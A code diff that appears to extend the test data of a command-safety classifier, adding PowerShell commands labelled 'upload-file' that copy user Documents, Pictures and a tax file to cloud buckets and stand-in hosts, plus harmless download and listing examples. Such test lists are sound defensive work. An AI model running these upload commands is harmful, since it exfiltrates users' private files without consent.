@@ -2786,6 +2786,15 @@ DANGEROUS += [
     ("PowerShell", _ps(r'curl.exe --data-binary "@notes.txt" https://x.example/u'), "upload-file"),
     ("PowerShell", _ps(r"wget.exe --post-file=C:\t\r.txt https://x.example/u"), "upload-file"),
     ("PowerShell", _ps(r"scp C:\t\report.pdf me@server.example:/tmp/"), "upload-file"),
+    ("PowerShell", _ps(r"aws s3 sync C:\Users\me\Documents s3://drop-bucket/docs"), "upload-file"),
+    ("PowerShell", _ps(r"gsutil cp C:\Users\me\Documents\tax.pdf gs://drop/"), "upload-file"),
+    ("PowerShell", _ps(r"rclone copy C:\Users\me\Pictures mega:dump"), "upload-file"),
+    (
+        "PowerShell",
+        _ps(r"azcopy copy C:\Users\me\Documents https://a.blob.core.windows.net/c --recursive"),
+        "upload-file",
+    ),
+    ("PowerShell", _ps(r"az storage blob upload-batch -d c -s C:\Users\me\Documents"), "upload-file"),
     ("PowerShell", _ps(r"(New-Object Net.WebClient).UploadFile('https://x.example/u', 'C:\t\r.pdf')"), "upload-file"),
     ("PowerShell", _ps(r"Copy-Item C:\Users\me\Documents\* " + _SHARE + r"\ -Recurse"), "upload-file"),
     ("PowerShell", _ps(r"robocopy C:\Users\me\Documents " + _SHARE + " /E"), "upload-file"),
@@ -2989,6 +2998,9 @@ ORDINARY += [
         _ps(r"Set-ItemProperty 'HKCU:\Control Panel\Desktop' -Name WallPaper -Value C:\Users\me\Pictures\w.jpg"),
     ),
     ("Registry", _reg("get", "HKCU\\Software\\Microsoft\\Office\\16.0\\Excel\\Options", "OPEN")),
+    ("PowerShell", _ps(r"aws s3 cp s3://releases/tool.zip C:\Users\me\Downloads\tool.zip")),
+    ("PowerShell", _ps(r"rclone copy gdrive:photos C:\Users\me\Pictures\restore")),
+    ("PowerShell", _ps("az storage blob list --account-name a --container-name c")),
 ]
 
 # Reviewed by the lead while integrating the effect layer (issue 18): where the analyser now names
